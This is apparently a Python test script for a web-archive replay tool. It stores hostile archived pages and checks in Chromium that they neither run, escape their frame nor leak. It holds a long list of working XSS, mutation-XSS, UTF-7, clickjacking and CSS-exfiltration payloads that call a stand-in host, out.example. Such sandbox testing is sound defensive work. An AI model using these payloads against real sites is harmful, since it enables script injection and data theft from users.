#!/usr/bin/env python3
"""Hostile archived pages neither run, nor leave their frame, nor break the page around them.

    replay_hostile.py BUILD

Real Chromium through `wirevault serve`; see replay_hostile.js for what is looked at. Needs
Chromium, node and, from npm, playwright-core (or WV_NODE_MODULES); says why where it is skipped (77).
"""

import json
import os
import struct
import subprocess
import sys
import tempfile
import zlib

from browser import tools
from served_warc import over_warc, page, web

HERE = os.path.dirname(os.path.abspath(__file__))
STAMP = "20240605054503"
SITE = "http://evil.example"
OUT = "http://out.example"


def png(width, height):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\0" + b"\xff\0\0" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


RUN = "window.RAN=1;document.documentElement.dataset.ran=1;console.log('RAN');fetch('http://out.example/f')"

# Each is a way to run, to ask, to leave or to overlay.
TRICKS = f"""
<script>{RUN};alert('RAN');top.location='{OUT}/top';window.open('{OUT}/open');navigator.serviceWorker.register('/sw.js')</script>
<script src="{OUT}/s.js"></script><script type=module src=/m.js></script><SCRIPT/x src=//out.example/x></SCRIPT>
<img src=x onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}"></svg><input autofocus onfocus="{RUN}"><details open ontoggle="{RUN}">
<a id=j href="javascript:{RUN}">script</a> <a id=k href=" jav&#x09;ascript&colon;{RUN}">script</a> <a id=d href="data:text/html,<script>{RUN}</script>">data</a>
<a id=o href="{OUT}/link" target=_blank ping="{OUT}/ping">out</a> <a id=t href="{OUT}/top" target=_top>top</a> <a id=dl href="{OUT}/file" download>file</a>
<iframe src="{OUT}/frame"></iframe><iframe srcdoc="<script>{RUN}</script><img src='{OUT}/srcdoc'>"></iframe><iframe src="javascript:{RUN}"></iframe>
<iframe src="data:text/html,<script>{RUN}</script>"></iframe><object data="{OUT}/object"></object><embed src="{OUT}/embed"><applet code=x archive="{OUT}/a.jar">
<form id=f action="{OUT}/form" method=post target=_top><input name=q value=1><button id=b formaction="{OUT}/formaction">send</button></form>
<meta http-equiv=refresh content="0;url={OUT}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="{OUT}/"><link rel=preconnect href="{OUT}"><link rel=dns-prefetch href="{OUT}"><link rel=preload as=image href="{OUT}/preload">
<link rel=prefetch href="{OUT}/prefetch"><link rel=modulepreload href="{OUT}/module"><link rel=prerender href="{OUT}/prerender">
<link rel=manifest href="{OUT}/manifest"><link rel=icon href="{OUT}/icon"><link rel=stylesheet href="{OUT}/sheet.css">
<script type=speculationrules>{{"prefetch":[{{"urls":["{OUT}/speculation"]}}]}}</script>
<style>@import '{OUT}/import.css'; @font-face {{font-family:x;src:url({OUT}/font)}} #leak {{background:url({OUT}/background);font-family:x}}
#leak::after {{content:url({OUT}/content)}} @import url("{OUT}/late.css"); .a{{background:image-set("{OUT}/set" 1x)}} .b{{background:\\75rl({OUT}/escaped)}}</style>
<div id=leak class="a b" style="background-image:url('{OUT}/inline');list-style:url({OUT}/list)">leak</div>
<img src="{OUT}/img" srcset="{OUT}/srcset 1x, {OUT}/srcset2 2x"><picture><source srcset="{OUT}/source"><img></picture>
<video autoplay src="{OUT}/video" poster="{OUT}/poster"></video><audio autoplay src="{OUT}/audio"></audio><table background="{OUT}/table"></table>
<svg><script>{RUN}</script><image href="{OUT}/svgimage"/><use href="{OUT}/use#a"/><a xlink:href="javascript:{RUN}"><text y=20>svg</text></a>
<animate attributeName=href values="javascript:{RUN}"/><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject>
<style><img src=x onerror="{RUN}"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></table></math>
<noscript><p title="</noscript><img src=x onerror='{RUN}'>"></noscript><template shadowrootmode=open><script>{RUN}</script></template>
<textarea></textarea><script>{RUN}</script><xmp><img src=x onerror="{RUN}"></xmp><title><img src=x onerror="{RUN}"></title>
<!--><img src=x onerror="{RUN}">--><![CDATA[<img src=x onerror="{RUN}">]]><p title='"><img src=x onerror="{RUN}">'>
<portal src="{OUT}/portal"></portal><fencedframe src="{OUT}/fenced"></fencedframe><img src="//out.example/scheme"><img src="http:\\\\out.example\\back">
<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red"><a id=cover href="{OUT}/cover">cover</a></div>
"""


def hostile():
    return (f"<!doctype html><html manifest='{OUT}/cache'><head><title>Hostile</title></head><body>"
            f"{TRICKS}<p>THE END OF IT</p></body></html>").encode()


def fill(warc):
    warc.add(SITE + "/page", STAMP, hostile())
    warc.add(SITE + "/plain", STAMP, page("Plain", "<img src=pic.png><a id=next href='/page2'>next</a>",
                                          "<link rel=stylesheet href=s.css>"))
    warc.add(SITE + "/page2", STAMP, page("Second page"))
    warc.add(SITE + "/pic.png", STAMP, png(3, 2), mime="image/png")
    warc.add(SITE + "/s.css", STAMP, b"body { background-color: rgb(1, 2, 3) }", mime="text/css")
    line = b"<p>" + b"x" * 5_000_000 + b"</p><p>THE END OF IT</p>"
    warc.add(SITE + "/line", STAMP, b"<!doctype html><title>Line</title><style>p{overflow-wrap:anywhere}</style>" + line)
    warc.add(SITE + "/attribute", STAMP, b"<!doctype html><title>Line</title><p title='" + b"y" * 5_000_000 + b"'>THE END OF IT")
    for name, charset, lead in (("utf16", "utf-16", b"\xff\xfe"), ("utf7", "utf-7", b""), ("gbk", "gbk", b"\x81\x30\xff"), ("jis", "iso-2022-jp", b"\x1b$B"),
                                ("none", "x-user-defined", b"\xc3\x28\xf0\x9f")):
        warc.add(f"{SITE}/{name}", STAMP, lead + b"<p>\xff\xfe\x00\x80 +ADw-script+AD4-window.RAN=1+ADw-/script+AD4-<script>window.RAN=1</script>"
                 b"\x1b(B<p>THE END OF IT</p>", mime=f"text/html; charset={charset}")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script><image href='{OUT}/i'/></svg>".encode()
    warc.add(SITE + "/a.svg", STAMP, svg, mime="image/svg+xml")
    warc.add(SITE + "/a.xml", STAMP, b"<?xml version='1.0'?><?xml-stylesheet href='" + OUT.encode() + b"/x.xsl' type='text/xsl'?><html xmlns='http://www.w3.org/1999/xhtml'>"
             b"<script>window.RAN=1</script><body>x</body></html>", mime="application/xml")
    warc.add(SITE + "/a.xhtml", STAMP, b"<html xmlns='http://www.w3.org/1999/xhtml'><body><script>window.RAN=1</script><p>THE END OF IT</p></body></html>",
             mime="application/xhtml+xml")
    warc.add(SITE + "/nomime", STAMP, hostile(), mime=None)
    warc.add(SITE + "/text", STAMP, hostile(), mime="text/plain")
    warc.add(SITE + "/sniffed", STAMP, hostile(), mime="application/octet-stream")
    warc.add(SITE + "/refresher", STAMP, page("Refresher"), fields=[("Refresh", f"0;url={OUT}/header"), ("Link", f"<{OUT}/h>; rel=preload; as=image"),
                                                                  ("Set-Cookie", "a=b"), ("Clear-Site-Data", '"*"')])


PRESSES = ["#j", "#k", "#d", "#dl", "#b", "svg text", "#o", "#t", "#cover"]


def pages():
    end = "THE END OF IT"
    out = [
        {"name": "a plain page", "path": web(STAMP, SITE + "/plain"), "text": "Sentence 3 of Plain", "framed": True, "picture": True, "style": True,
         "link": "#next", "follows": web(STAMP, SITE + "/page2")},
        {"name": "a plain page alone", "path": web(STAMP, SITE + "/plain", "if_"), "text": "Sentence 3 of Plain", "picture": True, "style": True},
    ]
    for one in PRESSES:
        out.append({"name": f"hostile, {one}", "path": web(STAMP, SITE + "/page"), "text": end, "framed": True, "presses": [one]})
    out += [
        {"name": "hostile, alone", "path": web(STAMP, SITE + "/page", "if_"), "text": end},
        {"name": "hostile, bytes", "path": web(STAMP, SITE + "/page", "id_"), "file": True},
        {"name": "hostile, as a picture", "path": web(STAMP, SITE + "/page", "im_"), "text": end},
        {"name": "a line of 5 MB", "path": web(STAMP, SITE + "/line"), "text": end, "framed": True},
        {"name": "an attribute of 5 MB", "path": web(STAMP, SITE + "/attribute"), "text": end, "framed": True},
        {"name": "fields", "path": web(STAMP, SITE + "/refresher"), "text": "Sentence 3 of Refresher", "framed": True},
        {"name": "fields, bytes", "path": web(STAMP, SITE + "/refresher", "id_"), "file": True},
        {"name": "no type", "path": web(STAMP, SITE + "/nomime"), "text": end, "framed": True},
        {"name": "no type, bytes", "path": web(STAMP, SITE + "/nomime", "id_"), "file": True},
        {"name": "text", "path": web(STAMP, SITE + "/text"), "text": end},
        {"name": "text, bytes", "path": web(STAMP, SITE + "/text", "id_"), "text": end},
        {"name": "xhtml", "path": web(STAMP, SITE + "/a.xhtml"), "text": end, "framed": True},
        {"name": "xhtml, bytes", "path": web(STAMP, SITE + "/a.xhtml", "id_"), "file": True},
        {"name": "xml", "path": web(STAMP, SITE + "/a.xml"), "text": "xml-stylesheet"},
        {"name": "xml, bytes", "path": web(STAMP, SITE + "/a.xml", "id_"), "file": True},
    ]
    for name in ("utf16", "utf7", "gbk", "jis", "none"):
        out.append({"name": name, "path": web(STAMP, f"{SITE}/{name}"), "framed": True})
        out.append({"name": f"{name}, bytes", "path": web(STAMP, f"{SITE}/{name}", "id_"), "file": True})
    for modifier in ("", "if_", "im_", "id_"):
        out.append({"name": f"svg {modifier}", "path": web(STAMP, SITE + "/a.svg", modifier), "file": modifier == "id_"})
    return out


def look(t, chromium, modules, folder):
    plan = {"modules": modules, "chromium": chromium, "base": f"http://127.0.0.1:{t.port}", "pages": pages()}
    name = os.path.join(folder, "plan.json")
    with open(name, "w", encoding="utf-8") as file:
        json.dump(plan, file)
    done = subprocess.run(["node", os.path.join(HERE, "replay_hostile.js"), name], stdout=subprocess.PIPE, text=True, check=False)
    last = {}
    for line in done.stdout.splitlines():
        last = json.loads(line)
        if "checks" not in last:
            t.check(f"{last['where']}: {last['what']}", True, False, last.get("got"))
    t.check("the browser ran to its end", True, "checks" in last)
    print(f"{last.get('checks', 0)} checks in the browser")


def main():
    with tempfile.TemporaryDirectory(prefix="wirevault-hostile-") as folder:
        chromium, modules = tools(folder)
        over_warc(sys.argv[1], fill, [lambda t: look(t, chromium, modules, folder)])


if __name__ == "__main__":
    main()
